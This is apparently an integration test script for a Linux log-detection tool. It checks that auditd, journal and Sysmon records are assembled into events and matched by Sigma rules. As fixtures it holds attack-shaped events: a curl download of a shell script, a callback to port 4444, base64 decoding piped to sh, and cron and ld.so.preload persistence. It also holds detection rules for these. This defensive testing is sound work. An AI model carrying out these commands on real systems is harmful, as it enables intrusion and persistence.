#!/bin/sh
# auditd and Sysmon for Linux through the real binary: audit.log lines are records with
# the stamp's time, program auditd and the raw fields SigmaHQ's auditd rules use
# (the pairs inside msg='...' as fields, hostname=? never the host); the records of one event are
# assembled into process_creation, file_event and network_connection records that
# category rules match; a partial event at the end of the input is flushed; audit
# records in the journal (_TRANSPORT=audit) and Sysmon XML lines in syslog give the same;
# audit records forwarded through syslog are read as audit records too;
# the daemon tailing an audit.log flushes a partial event after rules.allowed_lateness;
# and all of SigmaHQ rules/linux (when ../shared has it) fires on crafted attack events
# and stays silent on benign ones.
. "$EV_SRCDIR/tests/integration/lib.sh"
command -v python3 >/dev/null 2>&1 || skip "python3 writes the audit records"
GEN="python3 $EV_SRCDIR/tests/integration/audit-gen.py"
export EVIDENT_QUIET_WARNINGS=1

# --- records -----------------------------------------------------------------------
$GEN >"$T_TMP/user.log" <<'EOS'
user 1700000001.250 1002 USER_ACCT /usr/bin/sudo root success
EOS
run "$EVIDENT" replay --records "$T_TMP/user.log"
expect_rc 0 "replay --records of an audit.log line"
expect_out '"time":"2023-11-14T22:13:21.250000Z"' "the time is the msg=audit() stamp"
expect_out '"program":"auditd"' "program auditd"
expect_out '"msg":"audit\(1700000001.250:1002\)"' "msg holds the stamp"
expect_out '"op":"PAM:accounting"' "msg=... is split into its own fields"
expect_out '"exe":"/usr/bin/sudo"' "inner exe without its quotes"
expect_out '"hostname":"\?"' "hostname stays a field"
if grep -q '"host":' "$T_TMP/out"; then fail "hostname=? became the host"; else ok "no host from hostname=?"; fi
printf 'node=web1 type=PROCTITLE msg=audit(1700000002.000:7): proctitle=6C73002D6C61\n' >"$T_TMP/node.log"
run "$EVIDENT" replay --records "$T_TMP/node.log"
expect_out '"host":"web1"' "node= is the host"
expect_out '"proctitle":"ls -la"' "hex proctitle decoded, NULs as spaces"

# --- own rules: categories and raw auditd fields ---------------------------------------
R="$T_TMP/rules"
mkdir -p "$R"
rule() { # rule FILE TITLE LOGSOURCE-YAML DETECTION-YAML
	printf 'title: %s\nid: %s\nlevel: high\nlogsource:\n%s\ndetection:\n%s\n  condition: sel\n' \
		"$2" "$(cat /proc/sys/kernel/random/uuid)" "$3" "$4" >"$R/$1"
}
rule pc.yml "T base64 decode" "  product: linux
  category: process_creation" "  sel:
    Image|endswith: /base64
    CommandLine|contains: ' -d'"
rule parent.yml "T curl from bash in home" "  category: process_creation" "  sel:
    ParentImage: /usr/bin/bash
    Image: /usr/bin/curl
    CurrentDirectory: /home/alice
    User: alice"
rule fe.yml "T cron file" "  category: file_event" "  sel:
    TargetFilename|startswith: /etc/cron.d/"
rule nc.yml "T callback port" "  category: network_connection" "  sel:
    Initiated: 'true'
    DestinationPort: 4444
    DestinationIp: 198.51.100.9"
rule raw.yml "T raw execve" "  product: linux
  service: auditd" "  sel:
    type: EXECVE
    a0: curl
    a2: 'http://203.0.113.7/x y.sh'"
$GEN >"$T_TMP/attack.log" <<'EOS'
exec 1700000100.000 2001 3000 2999 1000 /home/alice /usr/bin/bash bash
exec 1700000100.100 2002 3001 3000 1000 /home/alice /usr/bin/curl curl -s http://203.0.113.7/x%20y.sh
create 1700000100.200 2003 3002 0 /root /usr/bin/vi /etc/cron.d/evil
connect 1700000100.300 2004 3003 1000 /usr/bin/bash 198.51.100.9 4444
partial 1700000101.000 2007 3004 3000 0 /tmp /usr/bin/base64 base64 -d /tmp/p
EOS
# the generator reads %20 as a space: the kernel hex-encodes that argument
# with the user name the ENRICHED format appends after 0x1d
sed -i 's/^\(type=SYSCALL msg=audit(1700000100.100:2002).*\)$/\1\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice"/' "$T_TMP/attack.log"
run "$EVIDENT" replay --rules "$R" "$T_TMP/attack.log"
expect_rc 0 "replay of the attack events"
for t in "T base64 decode" "T curl from bash in home" "T cron file" "T callback port" "T raw execve"; do
	n=$(grep -c "\"title\":\"$t\"" "$T_TMP/out")
	[ "$n" = 1 ] && ok "'$t' fires once" || { fail "'$t' fired $n times"; cat "$T_TMP/err"; }
done
expect_out '"TargetFilename":"/etc/cron.d/evil"' "file_event carries TargetFilename"
expect_out '"title":"T base64 decode".*22:15:01(\.0+)?Z' \
	"the partial event at the end of the input was flushed, with its own time"

$GEN >"$T_TMP/benign.log" <<'EOS'
exec 1700000200.000 3001 4000 1 1000 /home/bob /usr/bin/bash bash
exec 1700000200.100 3002 4001 4000 1000 /home/bob /usr/bin/base64 base64 /home/bob/file
exec 1700000200.200 3003 4002 4000 1000 /tmp /usr/bin/curl curl -s http://203.0.113.7/x.sh
create 1700000200.300 3004 4003 0 /root /usr/bin/vi /etc/motd
connect 1700000200.400 3005 4004 1000 /usr/bin/bash 198.51.100.9 443
connect 1700000200.500 3006 4005 1000 /usr/bin/bash 198.51.100.10 4444
EOS
run "$EVIDENT" replay --rules "$R" "$T_TMP/benign.log"
expect_rc 0 "replay of the benign events"
if grep -q '"title"' "$T_TMP/out"; then fail "a rule fired on benign events"; cat "$T_TMP/out"; else ok "silent on near-miss benign events"; fi

# --- Sysmon for Linux in syslog ----------------------------------------------------------
sysmon() { # sysmon EVENTID DATA...
	id=$1; shift
	d=""
	for kv in "$@"; do d="$d<Data Name=\"${kv%%=*}\">${kv#*=}</Data>"; done
	printf 'Nov 14 22:20:00 web1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>%s</EventID><Version>5</Version><Level>4</Level><Task>%s</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2023-11-14T22:20:00.000000000Z"/><EventRecordID>42</EventRecordID><Correlation/><Execution ProcessID="1100" ThreadID="1100"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data>%s</EventData></Event>\n' "$id" "$id" "$d"
}
{
	sysmon 1 "Image=/usr/bin/base64" "CommandLine=base64 -d /tmp/p &amp;&amp; sh" "ParentImage=/usr/bin/bash"
	sysmon 11 "Image=/usr/bin/vi" "TargetFilename=/etc/cron.d/job"
	sysmon 3 "Image=/usr/bin/nc" "Initiated=true" "DestinationIp=198.51.100.9" "DestinationPort=4444"
	sysmon 1 "Image=/usr/bin/base64" "CommandLine=base64 /etc/hosts"
} >"$T_TMP/sysmon.log"
run "$EVIDENT" replay --year 2023 --tz UTC --rules "$R" "$T_TMP/sysmon.log"
expect_rc 0 "replay of Sysmon for Linux events"
for t in "T base64 decode" "T cron file" "T callback port"; do
	n=$(grep -c "\"title\":\"$t\"" "$T_TMP/out")
	[ "$n" = 1 ] && ok "Sysmon: '$t' fires once" || { fail "Sysmon: '$t' fired $n times"; cat "$T_TMP/out" "$T_TMP/err"; }
done
expect_out 'base64 -d /tmp/p && sh' "XML entities decoded"

# --- audit records forwarded through syslog (audisp-syslog) -------------------------------
sed 's/^/Nov 14 22:15:00 web1 audisp-syslog: /' "$T_TMP/attack.log" >"$T_TMP/audisp.log"
run "$EVIDENT" replay --year 2023 --tz UTC --rules "$R" "$T_TMP/audisp.log"
expect_rc 0 "replay of audit records in syslog"
for t in "T base64 decode" "T curl from bash in home" "T raw execve"; do
	n=$(grep -c "\"title\":\"$t\"" "$T_TMP/out")
	[ "$n" = 1 ] && ok "syslog: '$t' fires once" || { fail "syslog: '$t' fired $n times"; cat "$T_TMP/err"; }
done

# --- audit records in the journal --------------------------------------------------------
JR=/lib/systemd/systemd-journal-remote
if [ -x "$JR" ]; then
	python3 - "$T_TMP/attack.log" >"$T_TMP/audit.export" <<'EOP'
import re, sys
names = {"SYSCALL": 1300, "EXECVE": 1309, "CWD": 1307, "PATH": 1302, "PROCTITLE": 1327,
         "SOCKADDR": 1306}
for line in open(sys.argv[1]):
    m = re.match(r"type=(\w+) msg=audit\((\d+)\.(\d+):(\d+)\): (.*)", line.rstrip("\n"))
    typ, sec, ms, serial, body = m.groups()
    us = int(sec) * 1000000 + int(ms) * 1000
    body = body.split("\x1d")[0].rstrip()
    sys.stdout.write("__REALTIME_TIMESTAMP=%d\n__MONOTONIC_TIMESTAMP=%d\n_BOOT_ID=0123456789abcdef0123456789abcdef\n"
                     "_TRANSPORT=audit\n_HOSTNAME=jhost\n_AUDIT_TYPE=%d\n_AUDIT_TYPE_NAME=%s\n_AUDIT_ID=%s\n"
                     "_SOURCE_REALTIME_TIMESTAMP=%d\nSYSLOG_FACILITY=4\nMESSAGE=%s %s\n\n"
                     % (us + 5000, us, names[typ], typ, serial, us, typ, body))
EOP
	"$JR" -o "$T_TMP/audit.journal" - <"$T_TMP/audit.export" 2>"$T_TMP/jr.err" || { fail "journal-remote"; cat "$T_TMP/jr.err"; }
	run "$EVIDENT" replay --rules "$R" --journal-file "$T_TMP/audit.journal"
	expect_rc 0 "replay of audit records in a journal file"
	for t in "T base64 decode" "T cron file" "T callback port" "T raw execve"; do
		n=$(grep -c "\"title\":\"$t\"" "$T_TMP/out")
		[ "$n" = 1 ] && ok "journal: '$t' fires once" || { fail "journal: '$t' fired $n times"; cat "$T_TMP/err"; }
	done
else
	skip_part "no systemd-journal-remote: audit records in the journal not checked"
fi

# --- rules test: a rule's .test.yaml with audit lines ------------------------------------
mkdir -p "$T_TMP/rt"
cp "$R/pc.yml" "$T_TMP/rt/pc.yml"
cat >"$T_TMP/rt/pc.test.yaml" <<'EOT'
cases:
  - name: decode, an event without PROCTITLE completed at the end of the case
    input:
      - line: 'type=SYSCALL msg=audit(1700000000.100:5): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=0 comm="base64" exe="/usr/bin/base64" key=(null)'
      - line: 'type=EXECVE msg=audit(1700000000.100:5): argc=2 a0="base64" a1="-d"'
    expect:
      - rule: T base64 decode
  - name: no decode
    input:
      - line: 'type=SYSCALL msg=audit(1700000000.100:5): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=0 comm="base64" exe="/usr/bin/base64" key=(null)'
      - line: 'type=EXECVE msg=audit(1700000000.100:5): argc=2 a0="base64" a1="f"'
    expect: []
EOT
run "$EVIDENT" rules test "$T_TMP/rt/pc.test.yaml"
expect_rc 0 "rules test over audit lines"
expect_out '2 passed, 0 failed' "rules test: the category rule fires on the event and not on the near miss"

# --- rules check: live versus unobservable per logsource ---------------------------------
rule win.yml "T windows only" "  product: windows
  category: process_creation" "  sel:
    Image|endswith: /x"
rule reg.yml "T registry" "  product: linux
  category: registry_event" "  sel:
    TargetObject: x"
run "$EVIDENT" rules check "$R"
expect_out 'category process_creation +2 live +1 unobservable' "rules check counts process_creation rules live and unobservable"
expect_out 'category registry_event +0 live +1 unobservable' "rules check counts an unobservable category"
expect_out 'service auditd +1 live +0 unobservable' "rules check counts service auditd"
run "$EVIDENT" rules check --json "$R"
expect_out '"logsources":\[' "rules check --json lists the counts"
rm -f "$R/win.yml" "$R/reg.yml"

# --- the daemon: a partial event flushed after the lateness ------------------------------
. "$EV_SRCDIR/tests/integration/agent-lib.sh"
LOG="$T_TMP/live/audit.log"
mkdir -p "$T_TMP/live" "$R/no-decoders"
: >"$LOG"
agent_write_config "$T_TMP/evident.yaml"
sed -i -e "s|^  journal: false|  journal: false\n  files: [$LOG]\n  stat_interval: 200ms|" "$T_TMP/evident.yaml"
printf 'rules:\n  paths: [%s]\n  decoders: [%s/no-decoders]\n  allowed_lateness: 1s\n' "$R" "$R" >>"$T_TMP/evident.yaml"
agent_start --config "$T_TMP/evident.yaml"
if wait_for "control socket" test -S "$A_SOCK"; then
	now=$(date +%s)
	printf 'partial %s.000 5001 6000 1 0 /tmp /usr/bin/base64 base64 -d /tmp/q\n' "$now" | $GEN >>"$LOG"
	if T_DEADLINE=15 wait_for "alert" grep -q '"title":"T base64 decode"' "$T_TMP/agent.out"; then
		ok "daemon: a partial audit event is flushed after the lateness and matched"
	else
		fail "daemon: no alert for the partial event"; sed 's/^/  | /' "$T_TMP/agent.err"
	fi
else
	fail "agent did not start"; cat "$T_TMP/agent.err"
fi
agent_stop

# --- all of SigmaHQ rules/linux ----------------------------------------------------------
SIGMA="${EV_SHARED:-$EV_SRCDIR/../shared}/data/sigma/sigmahq-linux-full/rules/linux"
if [ -d "$SIGMA" ]; then
	$GEN >"$T_TMP/sigma-attack.log" <<'EOS'
exec 1700000300.000 7001 8000 1 0 /root /usr/bin/chattr chattr -i /etc/passwd
exec 1700000300.100 7002 8001 1 0 /root /usr/bin/base64 base64 -d /tmp/payload
exec 1700000300.200 7003 8002 1 1000 /tmp /usr/bin/whoami whoami
create 1700000300.300 7004 8003 0 /root /usr/bin/vi /etc/cron.d/evil
create 1700000300.400 7005 8004 0 /root /usr/bin/tee /etc/ld.so.preload
connect 1700000300.500 7006 8005 1000 /usr/bin/bash 198.51.100.9 4444
user 1700000300.600 7007 ADD_USER /usr/sbin/useradd mallory success
EOS
	run "$EVIDENT" replay --rules "$SIGMA" "$T_TMP/sigma-attack.log"
	expect_rc 0 "SigmaHQ rules/linux over crafted attack events"
	for t in "Remove Immutable File Attribute - Auditd" "Decode Base64 Encoded Text" \
		"System Owner or User Discovery - Linux" "New Cron File Created" \
		"Modification of ld.so.preload" "Linux Reverse Shell Indicator" \
		"Potentially Suspicious Malware Callback Communication - Linux" \
		"Creation Of An User Account"; do
		if grep -q "\"title\":\"$t\"" "$T_TMP/out"; then ok "SigmaHQ: '$t' fires"; else fail "SigmaHQ: '$t' silent"; fi
	done
	grep -o '"title":"[^"]*"' "$T_TMP/out" | sort | uniq -c | sed 's/^/# fired: /'
	twice=$(grep -o '"title":"[^"]*"' "$T_TMP/out" | sort | uniq -d)
	[ -z "$twice" ] && ok "SigmaHQ: no rule fires twice on one event (raw and category records)" ||
		fail "SigmaHQ: fired more than once: $twice"
	$GEN >"$T_TMP/sigma-benign.log" <<'EOS'
exec 1700000400.000 9001 9000 1 1000 /home/bob /usr/bin/ls ls -la
exec 1700000400.100 9002 9001 1 1000 /home/bob /usr/bin/cat cat notes.txt
exec 1700000400.200 9003 9002 1 1000 /home/bob /usr/bin/grep grep TODO notes.txt
create 1700000400.300 9004 9003 1000 /home/bob /usr/bin/vi /home/bob/notes.txt
connect 1700000400.400 9005 9004 1000 /usr/bin/ssh 192.168.1.5 22
user 1700000400.500 9006 USER_ACCT /usr/bin/sudo root success
EOS
	run "$EVIDENT" replay --rules "$SIGMA" "$T_TMP/sigma-benign.log"
	expect_rc 0 "SigmaHQ rules/linux over benign events"
	if grep -q '"title"' "$T_TMP/out"; then fail "SigmaHQ fired on benign events"; grep -o '"title":"[^"]*"' "$T_TMP/out"; else ok "SigmaHQ: silent on benign events"; fi
	run "$EVIDENT" rules check "$SIGMA"
	expect_out 'category process_creation +[0-9]+ live +0 unobservable' "SigmaHQ: process_creation rules are live"
	grep -E '^  (category|service)' "$T_TMP/out" | sed 's/^/# /'
else
	skip_part "no SigmaHQ rules/linux in ../shared/data"
fi
done_testing
